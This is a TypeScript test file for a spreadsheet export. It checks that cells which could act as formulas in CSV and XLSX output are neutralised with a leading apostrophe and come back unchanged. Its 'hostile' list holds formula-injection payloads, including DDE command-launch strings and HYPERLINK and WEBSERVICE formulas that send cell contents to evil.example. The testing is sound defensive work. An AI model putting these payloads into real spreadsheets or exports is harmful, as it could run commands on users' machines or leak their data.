// No cell that somebody wrote is a formula, and none is lost (T26).
import { strFromU8, unzipSync } from 'fflate'
import { expect, test } from 'vitest'
import { csvLines, enteredCell, plainCell, type Table } from './spreadsheet.ts'
import { workbookPieces } from './workbook.ts'

const hostile = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example?leak="&A1,"Click")',
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example/"&A2)',
  '=DDE("cmd";"/C calc";"x")',
  '==1',
  '=',
  '+1+1',
  "+cmd|'/C calc'!A0",
  '++1',
  '+81-6-0000-0000',
  '-1+1',
  "-2+3+cmd|'/C calc'!A0",
  '--1',
  '-',
  '- a list',
  '@SUM(1,1)',
  '@',
  '@import',
  '\t=1+1',
  '\tplain',
  '\r=1+1',
  '\rplain',
  '\n=1+1',
  '\nplain',
  ' =1+1',
  '   +1',
  '\u00a0=1',
  '\u3000=1',
  '\u2003-1',
  '\u200b=1',
  '\ufeff=1',
  '\u202e=1',
  '\u0000=1',
  '\u2060@x',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹢1',
  '﹣1',
  '﹦1',
  '﹫x',
  '\u22121',
  '\u20131',
]
const harmless = [
  '',
  'plain',
  '1',
  '14',
  "'quoted",
  '"quoted"',
  'a=1',
  'a\n=1',
  'x@example.com',
  '深溝玉軸受',
  '100 % = 1',
  '; , | \\',
  '_x0041_',
  '<b>&amp;</b> ]]>',
  '  blanks  ',
]

test('forty cells that would be formulas begin with an apostrophe, and nothing else of them changes', () => {
  expect(hostile.length).toBeGreaterThanOrEqual(40)
  for (const cell of hostile) expect(plainCell(cell), JSON.stringify(cell)).toBe(`'${cell}`)
  for (const cell of harmless) expect(plainCell(cell), JSON.stringify(cell)).toBe(cell)
})

test('what was written comes back as it was entered, apostrophes too', () => {
  for (const cell of [...hostile, ...harmless, "'=1", "''-1", "'", "''", "' =1"])
    expect(enteredCell(plainCell(cell)), JSON.stringify(cell)).toBe(cell)
})

test('a comma-separated table ends its lines with CR LF, and quotes every cell', () => {
  const text = csvLines([
    ['Name', 'Text'],
    ['a"b', 'one,\ntwo'],
    ['=1', ''],
  ])
  expect(text).toBe('"Name","Text"\r\n"a""b","one,\ntwo"\r\n"\'=1",""\r\n')
})

async function* inPieces(...tables: Table[]) {
  yield* tables
}

test('the cells of a workbook are texts, whatever is in them, and come back as they were', async () => {
  const cells = [...hostile, ...harmless].filter(Boolean)
  const rows = cells.map((cell) => [cell])
  const pieces = await Array.fromAsync(
    workbookPieces(inPieces([['Head'], ...rows.slice(0, 9)], rows.slice(9)), 'A & B'),
  )
  const files = unzipSync(Buffer.concat(pieces))
  expect(strFromU8(files['xl/workbook.xml']!)).toContain('name="A &amp; B"')
  const sheet = strFromU8(files['xl/worksheets/sheet1.xml']!)
  expect(sheet).not.toMatch(/<f[ >]/)
  const kinds = [...sheet.matchAll(/<c [^>]*?t="(\w+)"/g)].map(([, kind]) => kind)
  expect(new Set(kinds)).toEqual(new Set(['inlineStr']))
  const texts = [...sheet.matchAll(/<t xml:space="preserve">([\s\S]*?)<\/t>/g)].map(([, text = '']) =>
    unescaped(text),
  )
  expect(texts).toEqual(['Head', ...cells.map(plainCell)])
})

/** As a spreadsheet reads it: first XML, then its own way of writing what XML cannot. */
function unescaped(text: string): string {
  const entities: Record<string, string> = { lt: '<', gt: '>', quot: '"', apos: "'", '#39': "'", amp: '&' }
  return text
    .replaceAll(/&(\w+|#\d+);/g, (all, name: string) => entities[name] ?? all)
    .replaceAll(/_x([0-9a-f]{4})_/gi, (_, code: string) => String.fromCharCode(parseInt(code, 16)))
}
